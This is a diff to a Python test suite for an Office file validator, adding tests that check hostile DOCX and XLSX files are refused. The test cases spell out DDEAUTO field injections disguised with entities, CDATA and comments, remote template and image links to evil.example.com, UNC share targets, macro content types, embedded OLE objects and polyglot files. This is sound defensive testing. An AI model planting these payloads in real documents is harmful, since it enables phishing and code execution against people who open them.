@@ -8,6 +8,7 @@ from ..tools.office_file import check_office_file
 from .common import DocumentCommon, repack
 
 SHEET = "xl/worksheets/sheet1.xml"
+WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 RELATIONSHIPS = (
     '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}'
     "</Relationships>"
@@ -140,7 +141,101 @@ class TestOfficeFiles(DocumentCommon):
         sheet = f"<worksheet><sheetData>{rows}</sheetData></worksheet>"
         self._refuse("sheet1.xml", repack(self.xlsx, {SHEET: sheet}))
 
+    def test_cells_at_the_far_end(self):
+        for place, row in (("XFD1048576", 1_048_576), ("XFD20000", 20_000)):
+            cells = f'<row r="{row}"><c r="{place}"><v>1</v></c></row>'
+            sheet = f"<worksheet><sheetData>{cells}</sheetData></worksheet>"
+            self._refuse(f"has {row:,} rows", repack(self.xlsx, {SHEET: sheet}))
+        near = self._make_xlsx({"A1": "{{ number }}", "C19999": 1, "XFD9": 1, "Z1048": 1})
+        self._refuse("has 19,999 rows", near)
+        self.assertEqual(check_office_file(self._make_xlsx({"AB19999": 1})), "xlsx")
+
     def test_cells_merged_over_the_whole_sheet(self):
         merged = '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
         sheet = f"<worksheet><sheetData/>{merged}</worksheet>"
         self._refuse("merges or links too many cells", repack(self.xlsx, {SHEET: sheet}))
+
+    # === THE SAME, SPELLED OTHERWISE === #
+
+    def _with_body(self, body, spaces=""):
+        document = f'<w:document xmlns:w="{WORD}" {spaces}><w:body>{body}</w:body></w:document>'
+        return repack(self.docx, {"word/document.xml": document})
+
+    def test_links_to_other_files_however_they_are_spelled(self):
+        base = 'Type="http://x/attachedTemplate" Target="http://evil.example.com/a.dotm"'
+        for relationship in (
+            f'<Relationship Id="a>b" {base} TargetMode="External"/>',
+            f'<Relationship Id="a" {base} TargetMode="&#69;xternal"/>',
+            f'<p:Relationship xmlns:p="urn:p" Id="a" {base} TargetMode="External"/>',
+            '<Relationship Id="a" Type="http://x/hyperlink" Target="&#92;&#92;evil&#92;share" '
+            'data=" target=\'https:" TargetMode="External"/>',
+            f'<Relationship Id="a" {base} foo="/hyperlink target=\'https:" TargetMode="External"/>',
+        ):
+            with self.subTest(relationship):
+                part = {"word/_rels/settings.xml.rels": RELATIONSHIPS.format(relationship)}
+                self._refuse("refers to another file", repack(self.docx, part))
+
+    def test_fields_that_fetch_data_however_they_are_spelled(self):
+        run = "<w:r><w:instrText>{}</w:instrText></w:r>"
+        begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        for body in (
+            run.format("DD") + run.format("EAUTO c:\\\\x"),
+            run.format("<![CDATA[DDEAUTO c:\\\\x]]>"),
+            run.format("&#68;DEAUTO c:\\\\x"),
+            run.format("ddeauto excel Sheet1 R1C1"),
+            run.format("DDE<!-- -->AUTO excel Sheet1 R1C1"),
+            f'<x:instrText xmlns:x="{WORD}">DDEAUTO excel Sheet1</x:instrText>',
+            "<w:fldSimple w:instr=' LINK excel'/>",
+            begin + begin + run.format("QUOTE 68 68 69"),
+            begin + run.format(" ") + begin + run.format("REF a"),
+        ):
+            with self.subTest(body):
+                self._refuse("fetches data", self._with_body(f"<w:p>{body}</w:p>"))
+
+    def test_fields_of_every_day_are_fine(self):
+        run = "<w:p><w:r><w:instrText>{}</w:instrText></w:r></w:p>"
+        codes = ('TOC \\o "1-3"', 'HYPERLINK "https://x/link import"', "PAGE", "REF dde")
+        body = "".join(map(run.format, codes)) + '<w:fldSimple w:instr=" NUMPAGES "/>'
+        self.assertEqual(check_office_file(self._with_body(body)), "docx")
+
+    def test_files_within_the_file(self):
+        self._refuse("embedded objects", self._with_body('<w:altChunk r:id="a"/>', 'xmlns:r="r"'))
+        for kind in ("aFChunk", "oleObject", "package", "control"):
+            relationship = f'<Relationship Id="a" Type="http://x/{kind}" Target="a.bin"/>'
+            part = {"word/_rels/document.xml.rels": RELATIONSHIPS.format(relationship)}
+            with self.subTest(kind):
+                self._refuse("embedded objects", repack(self.docx, part))
+        picture = '<v:imagedata xmlns:v="v" src="http://evil.example.com/x.png"/>'
+        self._refuse("fetches data", self._with_body(f"<w:pict>{picture}</w:pict>"))
+
+    def test_macros_however_they_are_spelled(self):
+        with zipfile.ZipFile(io.BytesIO(self.xlsx)) as archive:
+            types = archive.read("[Content_Types].xml").decode()
+        kind = "application/vnd.ms-office.vba&#80;roject"
+        more = f'<Override PartName="/xl/a.bin" ContentType="{kind}"/></Types>'
+        types = types.replace("</Types>", more)
+        self._refuse("holds macros", repack(self.xlsx, {"[Content_Types].xml": types}))
+
+    def test_rows_in_another_encoding_or_with_another_prefix(self):
+        rows = "<a-b:row/>" * 6_000
+        sheet = (
+            f'<a-b:worksheet xmlns:a-b="x"><a-b:sheetData>{rows}</a-b:sheetData></a-b:worksheet>'
+        )
+        self._refuse("has 6,000 rows", repack(self.xlsx, {SHEET: sheet}))
+        for encoding in ("utf-16-le", "utf-16-be", "utf-32-be"):
+            for name in (SHEET, "xl/other.dat"):
+                with self.subTest(f"{encoding} {name}"):
+                    part = {name: "<worksheet/>".encode(encoding)}
+                    self._refuse("not in UTF-8", repack(self.xlsx, part))
+
+    def test_areas_of_rules(self):
+        areas = " ".join(f"A{n}" for n in range(1, 100_003))
+        sheet = f'<worksheet><sheetData/><conditionalFormatting sqref="{areas}"/></worksheet>'
+        self._refuse("too many cells", repack(self.xlsx, {SHEET: sheet}))
+
+    def test_a_program_with_an_archive_behind_it(self):
+        self._refuse("damaged", b"MZ" + bytes(500) + self.xlsx, "a.xlsx")
+        self._refuse("damaged", b"<script>alert(1)</script>" + self.docx, "a.docx")
+
+    def test_a_part_that_is_there_in_two_spellings(self):
+        self._refuse("a part twice", repack(self.docx, {"Word/Document.xml": "<a/>"}))
